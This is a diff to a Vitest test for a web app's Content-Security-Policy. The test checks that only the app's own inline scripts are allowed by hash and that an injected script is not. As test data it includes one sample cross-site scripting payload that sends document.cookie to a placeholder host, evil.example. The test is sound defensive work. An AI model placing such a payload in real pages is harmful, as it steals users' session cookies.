@@ -1,5 +1,9 @@
 import { createHash } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
+import islandLoader from 'astro/runtime/server/astro-island.prebuilt.js';
+import loadDirective from 'astro/runtime/client/load.prebuilt.js';
+import { THEME_BOOTSTRAP_SCRIPT } from '../../lib/theme-bootstrap-script.ts';
+import { OWN_SCRIPT_HASHES } from './own-inline-scripts.ts';
 import { finalizePageResponse } from './page-response.ts';
 
 const html = (body: string, headers: Record<string, string> = {}, status = 200) =>
@@ -38,17 +42,21 @@ describe('page caching', () => {
 });
 
 describe('page security headers', () => {
-  it('allows exactly the inline scripts of the page by hash', async () => {
-    const script = 'document.documentElement.className="dark"';
+  it('allows only the inline scripts we ship, never one that appears in the page', async () => {
+    const injected = 'fetch("https://evil.example/?c="+document.cookie)';
     const response = await finalizePageResponse(
       get(),
-      html(`<script>${script}</script><script src="/a.js"></script>`),
+      html(`<script>${THEME_BOOTSTRAP_SCRIPT}</script><script>${injected}</script><script src="/a.js"></script>`),
       env,
     );
     const csp = response.headers.get('content-security-policy')!;
-    const hash = createHash('sha256').update(script).digest('base64');
-    expect(csp).toContain(`script-src 'self' https://apis.google.com 'sha256-${hash}'`);
-    expect(csp).not.toContain("'unsafe-inline' ;");
+    const scriptSrc = csp.split('; ').find((directive) => directive.startsWith('script-src '))!;
+    const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
+    expect(scriptSrc).toContain(hash(THEME_BOOTSTRAP_SCRIPT));
+    expect(scriptSrc).toContain(hash(islandLoader));
+    expect(scriptSrc).toContain(hash(loadDirective));
+    expect(scriptSrc).not.toContain(hash(injected));
+    expect(scriptSrc).toBe(`script-src 'self' https://apis.google.com ${OWN_SCRIPT_HASHES.join(' ')}`);
     expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/);
     expect(csp).toContain("frame-ancestors 'none'");
     expect(csp).toContain("object-src 'none'");
